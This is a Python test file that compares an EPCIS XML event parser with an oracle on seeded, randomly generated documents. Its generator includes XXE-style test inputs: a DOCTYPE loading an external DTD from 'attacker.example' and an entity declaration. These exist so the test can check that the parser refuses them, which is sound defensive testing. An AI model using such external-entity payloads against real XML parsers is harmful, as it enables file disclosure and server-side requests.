"""The EPCIS reader against an independent oracle, on seeded generated documents.

``parsers.parse_epcis`` (``tracking/epcis.py``) reads the common events with a
quick path and the rarer ones with its full reader.  The oracle below reads the
same documents the plain way (a path search per field, as ``ElementPath`` does
it) and builds what the reader must give: every event field, every rejected item
with its reason, or the :class:`PayloadError` of a refused body.  The generator
makes valid and invalid documents of every event type, EPCIS 1.x extension
wrappers, sensors, error declarations, quantities, sources and destinations,
ILMD, mixed content, duplicates and over-long texts, and runs some with the
per-body limits lowered.
"""

import dataclasses
import random
import re

import pytest
from logistics_crm_tracking import parsers, status_map
from logistics_crm_tracking.events import (
    MAX_DESCRIPTION,
    MAX_LOCATION,
    MAX_REF,
    EventError,
    PayloadError,
    TrackingEvent,
    clean_text,
    offset_text,
    parse_time,
)
from lxml import etree

# -- the oracle -------------------------------------------------------------------------

CBV = (
    "urn:epcglobal:cbv:bizstep:",
    "urn:epcglobal:cbv:disp:",
    "urn:epcglobal:cbv:er:",
    "https://ref.gs1.org/cbv/BizStep-",
    "https://ref.gs1.org/cbv/Disp-",
    "https://ref.gs1.org/cbv/ER-",
)
KINDS = {
    "ObjectEvent",
    "TransactionEvent",
    "AggregationEvent",
    "TransformationEvent",
    "AssociationEvent",
}


def short(uri):
    return next((uri[len(p) :] for p in CBV if uri.startswith(p)), uri)


def local(tag):
    return tag.rpartition("}")[2]


def valid_offset(text):
    return re.fullmatch(r"[+-](0\d|1[0-4]):[0-5]\d", text) is not None


def oracle(body):
    """What ``parse_epcis(body)`` must give: (events, rejected), or the PayloadError."""
    if b"<!ENTITY" in body:
        raise PayloadError("XML declaring entities is refused")
    parser = etree.XMLParser(
        resolve_entities=False,
        no_network=True,
        huge_tree=False,
        load_dtd=False,
        dtd_validation=False,
        remove_comments=True,
        remove_pis=True,
    )
    try:
        root = etree.fromstring(body, parser=parser)
    except (etree.XMLSyntaxError, ValueError) as error:
        raise PayloadError(f"malformed XML: {error}") from None
    info = root.getroottree().docinfo
    if info.system_url or info.public_id:
        raise PayloadError("XML with an external DTD is refused")
    dtd = info.internalDTD
    if dtd is not None and (list(dtd.iterentities()) or dtd.system_url):
        raise PayloadError("XML declaring entities is refused")
    if local(root.tag) not in ("EPCISDocument", "EPCISQueryDocument"):
        raise PayloadError(f"expected an EPCISDocument, got <{local(root.tag)}>")
    events, rejected = [], []
    for event_list in root.iterfind(".//{*}EventList"):
        for index, element in enumerate(event_list):
            if not isinstance(element.tag, str):
                continue
            where = f"EventList[{index}]"
            if local(element.tag) == "extension":
                element = next(iter(element.iterchildren("{*}*")), None)
                if element is None:
                    continue
            kind = local(element.tag)
            if kind not in KINDS:
                rejected.append(
                    {"event": where, "reason": f"{where}: <{kind[:64]}> is not an EPCIS event type"}
                )
                continue
            if len(events) >= parsers.MAX_EVENTS:
                rejected.append(
                    {
                        "event": where,
                        "reason": f"over the {parsers.MAX_EVENTS} events a body may carry",
                    }
                )
                continue
            try:
                events.append(oracle_event(element, kind, where))
            except (EventError, ValueError, TypeError, OverflowError, KeyError) as error:
                reason = str(error) if isinstance(error, EventError) else f"{where}: unreadable"
                rejected.append({"event": where, "reason": reason})
    return events, rejected


def oracle_event(element, kind, where):
    def text(path):
        return element.findtext(path, "").strip()

    def texts(path):
        return [(found.text or "").strip() for found in element.iterfind(path)]

    def code(name):
        value = short(text(name)).strip()
        if len(value) > 127:
            raise EventError(f"{where}.{name}: longer than 127 characters")
        return value

    moment = parse_time(text("eventTime"), f"{where}.eventTime")
    offset = text("eventTimeZoneOffset")
    offset = offset if valid_offset(offset) else offset_text(moment)
    step, disposition = code("bizStep"), code("disposition")
    action = text("action").upper()
    if action and action not in ("ADD", "OBSERVE", "DELETE"):
        raise EventError(f"{where}.action: {action[:32]!r} is not ADD, OBSERVE or DELETE")
    parent = text("parentID")
    listed = {
        "children": texts("childEPCs/epc"),
        "inputs": texts("inputEPCList/epc"),
        "outputs": texts("outputEPCList/epc"),
    }
    refs = [
        parent,
        *texts("bizTransactionList/bizTransaction"),
        *texts("epcList/epc"),
        *listed["children"],
        *listed["outputs"],
        *listed["inputs"],
    ]
    kept = []
    for ref in refs:
        if ref and len(ref) <= MAX_REF and ref not in kept:
            kept.append(ref)
    details = {}
    if parent:
        details["parent"] = parent[:MAX_REF]
    for key, values in listed.items():
        if values:
            details[key] = [value[:MAX_REF] for value in values[: parsers.MAX_LISTED]]
            details[f"{key}_count"] = len(values)
    quantities = [
        {
            "class": quantity.findtext("epcClass", "").strip()[:MAX_REF],
            "quantity": quantity.findtext("quantity", "").strip()[:32],
            "uom": quantity.findtext("uom", "").strip()[:16],
        }
        for quantity in element.iterfind(".//quantityElement")
    ][: parsers.MAX_LISTED]
    if quantities:
        details["quantities"] = quantities
    if text("transformationID"):
        details["transformation_id"] = text("transformationID")[:MAX_REF]
    declaration = element.find("errorDeclaration")
    if declaration is None:
        declaration = element.find("baseExtension/errorDeclaration")
    reason = ""
    if declaration is not None:
        reason = short(declaration.findtext("reason", "").strip()).strip()[:128]
        details["declared"] = declaration.findtext("declarationTime", "").strip()[:64]
    said = " / ".join(part for part in (step, disposition) if part).replace("_", " ")
    meaning = ""
    if kind == "AggregationEvent":
        verb = {"ADD": "packed into", "DELETE": "unpacked from"}.get(action, "observed in")
        meaning = f"{verb} {details.get('parent', '')}".strip()
    elif kind == "AssociationEvent":
        verb = {"ADD": "associated with", "DELETE": "dissociated from"}.get(action, "observed with")
        meaning = f"{verb} {details.get('parent', '')}".strip()
    elif kind == "TransformationEvent":
        meaning = (
            f"transformed {details.get('inputs_count', 0)} input(s) into "
            f"{details.get('outputs_count', 0)} output(s)"
        )
    description = "; ".join(part for part in (said, meaning) if part).strip()[:MAX_DESCRIPTION]
    location = text("bizLocation/id") or text("readPoint/id")
    event_id = text("eventID") or text("baseExtension/eventID")
    if len(event_id) > 1024:
        raise EventError(f"{where}.eventID: longer than 1024 characters")
    sensors = ()
    if element.find("sensorElementList") is not None or element.find("extension") is not None:
        sensors = oracle_sensors(element, where)
    return TrackingEvent(
        refs=tuple(kept[: parsers.MAX_REFS]),
        event_time=moment,
        raw_code=f"{step}|{disposition}",
        description=description,
        location=location[:MAX_LOCATION],
        external_id=event_id,
        tz_offset=offset,
        kind=kind,
        action=action,
        details=details,
        sensors=sensors,
        retraction=declaration is not None,
        retraction_reason=reason,
    )


def oracle_sensors(element, where):
    readings, reports = [], 0
    for sensor in element.iterfind(".//sensorElement"):
        metadata = sensor.find("sensorMetadata")
        entry = {"metadata": oracle_attributes(metadata, where) if metadata is not None else {}}
        entry["reports"] = []
        for report in sensor.iterfind("sensorReport"):
            reports += 1
            if reports > parsers.MAX_SENSOR_REPORTS:
                raise EventError(f"{where}: more than {parsers.MAX_SENSOR_REPORTS} sensor reports")
            entry["reports"].append(oracle_attributes(report, where))
        readings.append(entry)
    return tuple(readings)


def oracle_attributes(element, where):
    return {
        clean_text(local(name), where, 64): clean_text(value, where, 256)
        for name, value in sorted(element.attrib.items())
    }


# -- the generator ----------------------------------------------------------------------

TIMES = [
    "2026-05-06T10:00:00Z",
    "2026-05-06T10:00:00.125+08:00",
    "2026-05-06T10:00:00-05:30",
    " 2026-05-06T10:00:00+01:00\n",
    "2026-05-06T10:00:00z",
    "2026-05-06T10:00:00",
    "2026-05-06",
    "0001-01-01T00:00:00+05:00",
    "9999-12-31T23:59:59-05:00",
    "2200-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "yesterday",
    "",
    "2026-05-06T10:00:00+08:00" + " " * 60,
]
OFFSETS = ["+08:00", "-05:30", "+14:00", "+15:00", "08:00", "+8:00", " +01:00 ", "", "Z", "+08:00x"]
STEPS = [
    "urn:epcglobal:cbv:bizstep:shipping",
    "urn:epcglobal:cbv:bizstep:receiving",
    "https://ref.gs1.org/cbv/BizStep-departing",
    "urn:epcglobal:cbv:bizstep: arriving ",
    "http://epcis.example.org/hc/bizstep/summarising_discharge",
    "urn:epcglobal:cbv:bizstep:",
    "x" * 130,
    "urn:epcglobal:cbv:bizstep:" + "y" * 127,
    "",
    "packing",
    "装货",
]
DISPOSITIONS = [
    "urn:epcglobal:cbv:disp:in_transit",
    "https://ref.gs1.org/cbv/Disp-damaged",
    "urn:epcglobal:cbv:disp:stolen",
    "urn:epcglobal:cbv:disp:returned",
    "z" * 200,
    "",
    "in_progress",
]
ACTIONS = ["OBSERVE", "ADD", "DELETE", "observe", " add ", "SMASH", "", "x" * 50]
EPCS = [
    "urn:epc:id:sscc:0614141.1234567890",
    "urn:epc:id:sgtin:0614141.107346.2017",
    "SSCC1",
    "BN00000001",
    "",
    "   ",
    "e" * 257,
    "e" * 256,
    "运单 123",
]
PLACES = ["urn:epc:id:sgln:0614141.07346.1234", "", "p" * 300, "  Hub\tA  ", "仓库"]
REASONS = ["urn:epcglobal:cbv:er:incorrect_data", "https://ref.gs1.org/cbv/ER-did_not_occur", ""]


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class Generator:
    def __init__(self, seed):
        self.rng = random.Random(seed)

    def pick(self, values):
        return self.rng.choice(values)

    def chance(self, p):
        return self.rng.random() < p

    def leaf(self, tag, text):
        r = self.rng.random()
        if r < 0.04:
            return f"<{tag}/>"
        if r < 0.07:  # mixed content: .text is the text before the child
            return f"<{tag}>{escape(text)}<x>inner</x>tail</{tag}>"
        if r < 0.09:
            return f"<{tag}><x>inner</x>{escape(text)}</{tag}>"
        if r < 0.12 and "]]>" not in text:
            return f"<{tag}><![CDATA[{text}]]></{tag}>"
        if r < 0.14:
            return f"<{tag}>{escape(text[:3])}<!-- note -->{escape(text[3:])}</{tag}>"
        if r < 0.16:
            return f"<{tag}>{escape(text)}<?pi data?></{tag}>"
        if r < 0.18 and text:  # the first character as a character reference
            return f"<{tag}>&#x{ord(text[0]):x};{escape(text[1:])}</{tag}>"
        return f"<{tag}>{escape(text)}</{tag}>"

    def listed(self, tag, item, values, attrs=""):
        items = "".join(
            self.leaf(item, self.pick(values)).replace(f"<{item}>", f"<{item}{attrs}>", 1)
            for _ in range(self.rng.choice([0, 1, 1, 1, 2, 3, 6]))
        )
        if self.chance(0.1):
            items += "<other>noise</other>"
        return f"<{tag}>{items}</{tag}>"

    def place(self, tag):
        ids = "".join(
            self.leaf("id", self.pick(PLACES)) for _ in range(self.rng.choice([0, 1, 1, 1, 2]))
        )
        if self.chance(0.15):
            ids = "<extension><x>1</x></extension>" + ids
        return f"<{tag}>{ids}</{tag}>"

    def quantities(self, tag):
        elements = "".join(
            "<quantityElement>"
            + self.leaf("epcClass", self.pick(EPCS))
            + (self.leaf("quantity", str(self.rng.randint(0, 10**40))) if self.chance(0.8) else "")
            + (self.leaf("uom", self.pick(["KGM", "", "u" * 20])) if self.chance(0.6) else "")
            + "</quantityElement>"
            for _ in range(self.rng.choice([1, 2, 3]))
        )
        return f"<{tag}>{elements}</{tag}>"

    def sensors(self):
        def attrs():
            names = ["type", "value", "uom", "gs1:extra", "deviceID", "time"]
            chosen = self.rng.sample(names, self.rng.randint(0, 4))
            return "".join(
                f' {name}="{escape(self.pick(["gs1:MT-Temperature", "26.1", "CEL", "", "v" * 300]))}"'
                for name in chosen
            )

        elements = ""
        for _ in range(self.rng.choice([1, 1, 2, 3])):
            inner = f"<sensorMetadata{attrs()}/>" if self.chance(0.7) else ""
            inner += "".join(
                f"<sensorReport{attrs()}/>" for _ in range(self.rng.choice([0, 1, 2, 4, 9]))
            )
            elements += f"<sensorElement>{inner}</sensorElement>"
        body = f"<sensorElementList>{elements}</sensorElementList>"
        return body if self.chance(0.5) else f"<extension><extension>{body}</extension></extension>"

    def declaration(self):
        inner = ""
        if self.chance(0.8):
            inner += self.leaf("declarationTime", self.pick(TIMES))
        if self.chance(0.8):
            inner += self.leaf("reason", self.pick(REASONS))
        inner += "<correctiveEventIDs><correctiveEventID>urn:uuid:1</correctiveEventID></correctiveEventIDs>"
        return f"<errorDeclaration>{inner}</errorDeclaration>"

    def event(self, kind):
        parts = []
        if self.chance(0.95):
            parts.append(
                self.leaf(
                    "eventTime", self.pick(TIMES[:4]) if self.chance(0.8) else self.pick(TIMES)
                )
            )
        if self.chance(0.05):
            parts.append(self.leaf("eventTime", self.pick(TIMES)))  # a second one: the first counts
        if self.chance(0.2):
            parts.append(self.leaf("recordTime", self.pick(TIMES)))
        if self.chance(0.85):
            parts.append(self.leaf("eventTimeZoneOffset", self.pick(OFFSETS)))
        if self.chance(0.3):
            parts.append(
                self.leaf("eventID", self.pick(["urn:uuid:ab-1", "", "i" * 1025, "i" * 1024]))
            )
        if kind in ("AggregationEvent", "AssociationEvent") or self.chance(0.1):
            parts.append(self.leaf("parentID", self.pick(EPCS)))
        if kind in ("ObjectEvent", "TransactionEvent") or self.chance(0.1):
            parts.append(self.listed("epcList", "epc", EPCS))
        if self.chance(0.05):
            parts.append(self.listed("epcList", "epc", EPCS))  # a second list: both count
        if kind in ("AggregationEvent", "AssociationEvent") or self.chance(0.05):
            parts.append(self.listed("childEPCs", "epc", EPCS))
        if kind == "TransformationEvent" or self.chance(0.05):
            parts.append(self.listed("inputEPCList", "epc", EPCS))
            parts.append(self.listed("outputEPCList", "epc", EPCS))
        if kind == "TransformationEvent" and self.chance(0.5):
            parts.append(self.leaf("transformationID", self.pick(EPCS)))
        if self.chance(0.75):
            parts.append(
                self.leaf(
                    "action", self.pick(ACTIONS[:3]) if self.chance(0.85) else self.pick(ACTIONS)
                )
            )
        if self.chance(0.85):
            parts.append(
                self.leaf("bizStep", self.pick(STEPS[:4]) if self.chance(0.8) else self.pick(STEPS))
            )
        if self.chance(0.7):
            parts.append(
                self.leaf(
                    "disposition",
                    self.pick(DISPOSITIONS[:4]) if self.chance(0.8) else self.pick(DISPOSITIONS),
                )
            )
        if self.chance(0.8):
            parts.append(self.place("readPoint"))
        if self.chance(0.4):
            parts.append(self.place("bizLocation"))
        if kind == "TransactionEvent" or self.chance(0.3):
            parts.append(
                self.listed(
                    "bizTransactionList",
                    "bizTransaction",
                    [
                        "http://transaction.acme.com/po/12345678",
                        "urn:epcglobal:cbv:bt:1:2",
                        "",
                        "t" * 300,
                    ],
                    attrs=' type="urn:epcglobal:cbv:btt:po"',
                )
            )
        if self.chance(0.1):
            parts.append(
                self.quantities(
                    self.pick(["quantityList", "childQuantityList", "outputQuantityList"])
                )
            )
        if self.chance(0.1):
            parts.append(
                "<sourceList><source type='urn:epcglobal:cbv:sdt:owning_party'>urn:epc:id:pgln:1</source></sourceList>"
            )
            parts.append(
                "<destinationList><destination type='urn:epcglobal:cbv:sdt:location'>urn:epc:id:sgln:2</destination></destinationList>"
            )
        if self.chance(0.08):
            parts.append(
                "<ilmd><example:lot xmlns:example='https://ns.example.com/epcis'>L1</example:lot>"
                + (self.quantities("quantityList") if self.chance(0.3) else "")
                + "</ilmd>"
            )
        if self.chance(0.1):
            parts.append(self.sensors())
        if self.chance(0.05):
            parts.append("<extension><x>1</x></extension>")  # an extension without sensors
        if self.chance(0.08):
            parts.append(self.declaration())
        if self.chance(0.08):
            base = self.leaf("eventID", self.pick(["urn:uuid:base-1", "", "b" * 1025]))
            if self.chance(0.5):
                base += self.declaration()
            parts.append(f"<baseExtension>{base}</baseExtension>")
        if self.chance(0.05):
            parts.append(
                "<ex:bizStep xmlns:ex='https://ns.example.com/epcis'>urn:epcglobal:cbv:bizstep:loading</ex:bizStep>"
            )
        if self.chance(0.04):
            parts.append(
                "<persistentDisposition><set>urn:epcglobal:cbv:disp:completeness_inferred</set></persistentDisposition>"
            )
        self.rng.shuffle(parts)
        if self.chance(0.1):  # whitespace between children, as pretty-printed documents have
            joiner = "\n    "
        else:
            joiner = ""
        tag = kind if not self.chance(0.03) else f"ns:{kind} xmlns:ns='urn:other'"
        close = kind if not tag.startswith("ns:") else f"ns:{kind}"
        return f"<{tag}>{joiner}{joiner.join(parts)}{joiner}</{close}>"

    def item(self):
        r = self.rng.random()
        if r < 0.03:
            return "<QuantityEvent><eventTime>2026-05-06T10:00:00Z</eventTime></QuantityEvent>"
        if r < 0.05:
            return "<extension/>"
        if r < 0.08:
            return (
                "<extension>"
                + self.event(self.pick(["TransformationEvent", "AssociationEvent"]))
                + "</extension>"
            )
        if r < 0.09:
            return "<!-- a comment between events -->"
        if r < 0.1:
            return "<x:" + "y" * 80 + " xmlns:x='urn:x'/>"
        if r < 0.4:
            return self.event(self.pick(sorted(KINDS)))
        return self.event("ObjectEvent")

    def document(self):
        lists = []
        for _ in range(self.rng.choice([1, 1, 1, 1, 2])):
            items = [self.item() for _ in range(self.rng.randint(0, 14))]
            lists.append(
                "<EventList>"
                + ("\n".join(items) if self.chance(0.3) else "".join(items))
                + "</EventList>"
            )
        root = self.pick(
            ["epcis:EPCISDocument"] * 8 + ["epcis:EPCISQueryDocument", "EPCISDocument", "other"]
        )
        ns = self.pick(
            ['xmlns:epcis="urn:epcglobal:epcis:xsd:2"', 'xmlns:epcis="urn:epcglobal:epcis:xsd:1"']
        )
        ns += ' xmlns:gs1="https://gs1.org/voc/"'
        ns += ' xmlns="urn:default"' if root == "EPCISDocument" and self.chance(0.3) else ""
        body = f'<{root} {ns} schemaVersion="2.0"><EPCISBody>{"".join(lists)}</EPCISBody></{root}>'
        r = self.rng.random()
        if r < 0.02:
            body = body[: self.rng.randint(0, len(body))]  # cut short: malformed
        elif r < 0.03:
            body = "<!DOCTYPE d [<!ELEMENT d ANY>]>" + body
        elif r < 0.04:
            body = '<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">' + body
        elif r < 0.05:
            body = '<!DOCTYPE d [<!ENTITY e "x">]>' + body
        encoding = "utf-8" if self.chance(0.9) else "utf-16"
        if encoding == "utf-16":
            body = f'<?xml version="1.0" encoding="utf-16"?>{body}'
        return body.encode(encoding)


def comparable(event):
    values = dataclasses.asdict(event)
    # datetimes of the same instant compare equal whatever their offset: compare the text
    values["event_time"] = event.event_time.isoformat()
    return values


def outcome(read, body):
    try:
        events, rejected = read(body)
    except PayloadError as error:
        return ("refused", str(error))
    events = [comparable(event) for event in events]
    return ("read", events, rejected)


def reader(body):
    document = parsers.parse_epcis(body)
    return document.events, document.rejected


LIMITS = [
    {},
    {"MAX_EVENTS": 3, "MAX_LISTED": 2, "MAX_REFS": 2, "MAX_SENSOR_REPORTS": 3},
]


@pytest.mark.parametrize("limits", LIMITS, ids=["limits", "lowered"])
@pytest.mark.parametrize("seed", range(6))
def test_reader_gives_what_the_oracle_reads(seed, limits, monkeypatch):
    for name, value in limits.items():
        monkeypatch.setattr(parsers, name, value)
    generator = Generator(seed)
    seen = {"read": 0, "refused": 0, "events": 0, "rejected": 0}
    for number in range(150):
        body = generator.document()
        expected, got = outcome(oracle, body), outcome(reader, body)
        assert got == expected, f"seed {seed}, document {number}:\n{body[:3000]!r}"
        seen[got[0]] += 1
        if got[0] == "read":
            seen["events"] += len(got[1])
            seen["rejected"] += len(got[2])
    # the generator makes both kinds of body and both kinds of item
    assert seen["read"] and seen["refused"] and seen["events"] > 250 and seen["rejected"] > 30


def test_normalised_codes_and_identities_match_the_oracle():
    generator = Generator(99)
    for _ in range(100):
        body = generator.document()
        try:
            expected, _rejected = oracle(body)
        except PayloadError:
            continue
        got = parsers.parse_epcis(body).events
        code_map = status_map.DEFAULT_MAPS["epcis"]
        assert status_map.normalise(got, code_map) == status_map.normalise(expected, code_map)
        for mine, theirs in zip(got, expected, strict=True):
            assert (mine.category, mine.milestone, mine.mapped) == (
                theirs.category,
                theirs.milestone,
                theirs.mapped,
            )
            for ref in mine.refs:
                assert mine.identity(ref) == theirs.identity(ref)


def test_the_bench_shape_and_its_variants_match_the_oracle():
    """The benchmark's bodies (one shape, times and codes repeated) and small changes of it."""
    event = (
        "<ObjectEvent><eventTime>2026-05-01T{h:02d}:00:00+00:00</eventTime>"
        "<eventTimeZoneOffset>+08:00</eventTimeZoneOffset><epcList><epc>BN{n:08d}</epc></epcList>"
        "<action>OBSERVE</action><bizStep>urn:epcglobal:cbv:bizstep:{step}</bizStep>"
        "<disposition>urn:epcglobal:cbv:disp:in_transit</disposition>"
        "<readPoint><id>urn:epc:id:sgln:0614141.07346.1234</id></readPoint></ObjectEvent>"
    )
    steps = ("shipping", "departing", "arriving", "receiving")
    events = [event.format(h=(n * 7) % 24, n=n // 4, step=steps[n % 4]) for n in range(400)]
    events[17] = events[17].replace("OBSERVE", "SMASH")
    events[18] = events[18].replace("+00:00</eventTime>", "</eventTime>")
    events[19] = events[19].replace("+08:00", "+8")
    events[20] = events[20].replace("<epc>", "<epc>  ").replace("</epc>", "</epc><epc>X</epc>")
    body = (
        '<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>'
        + "".join(events)
        + "</EventList></EPCISBody></epcis:EPCISDocument>"
    ).encode()
    assert outcome(reader, body) == outcome(oracle, body)
    document = parsers.parse_epcis(body)
    assert len(document.events) == 398 and len(document.rejected) == 2
